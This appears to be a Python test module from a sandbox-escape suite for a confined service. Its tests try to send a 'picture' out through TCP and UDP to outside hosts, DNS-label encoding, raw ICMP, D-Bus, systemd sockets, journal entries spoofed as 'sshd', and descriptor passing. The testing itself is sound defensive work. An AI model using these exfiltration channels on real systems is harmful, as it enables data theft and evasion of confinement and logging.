"""Ways out by sockets: the network, helpers outside, and who speaks for the machine."""

import array
import os
import socket
import stat
from collections.abc import Callable
from functools import partial
from pathlib import Path

from tests.escape.attempt import (
    READINGS_SOCKET,
    SINK,
    SINK_PORT,
    SUITE_FOLDER,
    AbsentError,
    attempt,
    first_success,
)
from tests.escape.attempts_files import everything_below

_PATIENCE_S = 2
_OUTSIDE = ("127.0.0.1", "10.0.2.2", "192.0.2.1")
"""Here, a host beside us (an emulator's), and anywhere else."""

_NOTIFY = "/run/systemd/notify"
_NETLINK_AUDIT, _NETLINK_ROUTE, _NETLINK_UEVENT = 9, 0, 15
_AF_VSOCK, _AF_MAXIMUM = 40, 46
_AUDIT_USER = 1005


def _stream(address: "str | bytes", picture: bytes) -> str:
    """Say the picture to who listens at a local address."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.settimeout(_PATIENCE_S)
        client.connect(address)
        client.sendall(picture)
    return address if isinstance(address, str) else "@" + address[1:].decode()


def _datagram(address: str, message: bytes) -> str:
    """Send one message to a local address."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as client:
        client.settimeout(_PATIENCE_S)
        client.sendto(message, address)
    return address


def _tcp(host: str, port: int, picture: bytes) -> str:
    """Say the picture over TCP."""
    with socket.create_connection((host, port), _PATIENCE_S) as client:
        client.sendall(picture)
    return f"{host}:{port}"


def _udp(host: str, port: int, picture: bytes) -> str:
    """Send the picture over UDP."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.sendto(picture, (host, port))
    return f"{host}:{port}"


@attempt("TCP to this machine, to the next and to the world")
def tcp(picture: bytes) -> str:
    ways = [partial(_tcp, host, SINK_PORT, picture) for host in _OUTSIDE]
    return first_success(ways)


@attempt("TCP over IPv6")
def tcp_ipv6(picture: bytes) -> str:
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as client:
        client.settimeout(_PATIENCE_S)
        client.connect(("::1", SINK_PORT))
        client.sendall(picture)
    return "::1"


@attempt("The broker itself, as if we were the publisher")
def broker(picture: bytes) -> str:
    # An MQTT 3.1.1 CONNECT whose client identifier is the picture.
    identifier = picture.hex()[:46].encode()
    body = b"\x00\x04MQTT\x04\x02\x00\x3c" + len(identifier).to_bytes(2, "big") + identifier
    packet = bytes([0x10, len(body)]) + body
    return first_success([partial(_tcp, host, 1883, packet) for host in ("127.0.0.1", "10.0.2.2")])


@attempt("UDP to this machine, to the next and to the world")
def udp(picture: bytes) -> str:
    return first_success([partial(_udp, host, SINK_PORT, picture) for host in _OUTSIDE])


@attempt("The picture as the name that a name server is asked for")
def name_server(picture: bytes) -> str:
    label = picture.hex()[:60].encode()
    question = b"\1\2\1\0\0\1\0\0\0\0\0\0" + bytes([len(label)]) + label + b"\0\0\1\0\1"
    servers = ["127.0.0.53", "127.0.0.1", "10.0.2.3"]
    return first_success([partial(_udp, each, 53, question) for each in servers])


@attempt("Raw packets (ICMP)")
def raw_packets(picture: bytes) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as client:
        client.sendto(b"\x08\x00\x00\x00\x00\x00\x00\x00" + picture, ("127.0.0.1", 0))
    return "ICMP"


@attempt("Frames on the cable (packet socket)")
def cable_frames(picture: bytes) -> str:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as client:
        client.bind(("lo", 0))
        client.send(bytes(12) + b"\x88\xb5" + picture)
    return "lo"


@attempt("Netlink: addresses, routes, events of devices")
def netlink(picture: bytes) -> str:
    del picture
    for protocol in (_NETLINK_ROUTE, _NETLINK_UEVENT):
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as client:
            client.bind((0, 0))
    return "routes and events"


@attempt("A message to the kernel's audit, which goes to the journal")
def audit(picture: bytes) -> str:
    text = picture.hex().encode()
    header = (16 + len(text)).to_bytes(4, "little") + _AUDIT_USER.to_bytes(2, "little")
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, _NETLINK_AUDIT) as client:
        client.settimeout(_PATIENCE_S)
        client.send(header + b"\5\0" + bytes(8) + text)
        answer = client.recv(4096)
    number = -int.from_bytes(answer[16:20], "little", signed=True)
    if number:
        raise OSError(number, os.strerror(number))
    return "audit"


@attempt("The virtual machine's host (vsock)")
def virtual_host(picture: bytes) -> str:
    del picture
    with socket.socket(_AF_VSOCK, socket.SOCK_STREAM):
        return "a socket"


@attempt("Any other family of sockets, whose driver the kernel would load")
def any_family(picture: bytes) -> str:
    del picture
    kinds = (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET)

    def make(family: int, kind: int) -> str:
        socket.socket(family, kind).close()
        return f"family {family}"

    families = [each for each in range(1, _AF_MAXIMUM) if each != socket.AF_UNIX]
    return first_success([partial(make, family, kind) for family in families for kind in kinds])


@attempt("A helper outside that listens at an abstract address")
def abstract_socket(picture: bytes) -> str:
    return _stream(b"\0" + SINK.encode(), picture)


@attempt("An open file with the picture, handed to that helper (SCM_RIGHTS)")
def file_to_helper(picture: bytes) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.settimeout(_PATIENCE_S)
        client.connect(b"\0" + SINK.encode() + b"-files")
        _hand_over(client, b"file", picture)
    return "handed over"


def _hand_over(client: socket.socket, message: bytes, picture: bytes, address: str = "") -> None:
    """Send a message with an open file that holds the picture."""
    reading, writing = os.pipe()
    os.write(writing, picture)
    files = array.array("i", [reading])
    ancillary = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files.tobytes())]
    if address:
        client.sendmsg([message], ancillary, 0, address)
    else:
        client.sendmsg([message], ancillary)
    os.close(reading)
    if not address:
        # systemd keeps no pipe whose other end is closed.
        os.close(writing)


@attempt("Abstract sockets of the machine that we find listed (/proc/net/unix)")
def listed_sockets(picture: bytes) -> str:
    names = [
        line.split()[-1]
        for line in Path("/proc/net/unix").read_text().splitlines()
        if line.split()[-1].startswith("@")
    ]
    return first_success([partial(_stream, b"\0" + each[1:].encode(), picture) for each in names])


@attempt("A helper outside that listens in the file system")
def socket_file(picture: bytes) -> str:
    return _stream(str(SUITE_FOLDER / "sink.sock"), picture)


@attempt("Every socket file that we see, but the tokeniser's and systemd's for the service's state")
def every_socket_file(picture: bytes) -> str:
    ways: list[Callable[[], str]] = []
    for entry in everything_below():
        if entry.path in (READINGS_SOCKET, _NOTIFY) or "edge-lpr-escape" in entry.path:
            continue
        try:
            if not stat.S_ISSOCK(entry.stat(follow_symlinks=False).st_mode):
                continue
        except OSError:
            continue
        ways += [partial(_stream, entry.path, picture), partial(_datagram, entry.path, picture)]
    if not ways:
        raise ConnectionRefusedError(111, "there is no other socket to see")
    return first_success(ways)


@attempt("The system's message bus (D-Bus)")
def message_bus(picture: bytes) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.settimeout(_PATIENCE_S)
        client.connect("/run/dbus/system_bus_socket")
        client.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
        answer = client.recv(200)
        client.sendall(b"DATA " + picture.hex().encode() + b"\r\n")
    return answer[:2].decode()


@attempt("systemd's private bus, and its offices for users and memory")
def service_manager(picture: bytes) -> str:
    paths = ("private", "userdb/io.systemd.DynamicUser", "io.systemd.ManagedOOM")
    return first_success([partial(_stream, f"/run/systemd/{each}", picture) for each in paths])


@attempt("The journal's own protocol, with fields of our choosing")
def journal_protocol(picture: bytes) -> str:
    message = b"MESSAGE=edge-lpr-escape\nPICTURE=" + picture.hex().encode() + b"\n"
    return _datagram("/run/systemd/journal/socket", message)


@attempt("A new stream to the journal under another name")
def journal_stream(picture: bytes) -> str:
    header = b"sshd\n\n6\n0\n0\n0\n0\n"
    return _stream("/run/systemd/journal/stdout", header + picture.hex().encode() + b"\n")


@attempt("The system log (/dev/log)")
def system_log(picture: bytes) -> str:
    return _datagram("/dev/log", b"<13>edge-lpr-escape: " + picture.hex().encode())


@attempt("An open file in systemd's store for the service's files (FDSTORE)", in_main=True)
def file_store(picture: bytes) -> str:
    address = os.environ.get("NOTIFY_SOCKET")
    if address is None:
        raise AbsentError
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as client:
        _hand_over(client, b"FDSTORE=1\nFDNAME=picture", picture, address)
    return ""


@attempt("An open file in an inherited descriptor's other end (the journal's stream)")
def inherited_descriptors(picture: bytes) -> str:
    def use(descriptor: int) -> str:
        with socket.socket(fileno=os.dup(descriptor)) as client:
            if client.family not in (socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK):
                raise PermissionError(1, "only the journal's stream is inherited")
            client.send(picture)
        return f"descriptor {descriptor}"

    found = [int(each.name) for each in Path("/proc/self/fd").iterdir() if int(each.name) < 64]
    sockets = [each for each in found if _is_socket(each)]
    return first_success([partial(use, each) for each in sockets])


def _is_socket(descriptor: int) -> bool:
    """Return whether an open file is a socket."""
    try:
        return stat.S_ISSOCK(os.fstat(descriptor).st_mode)
    except OSError:
        return False
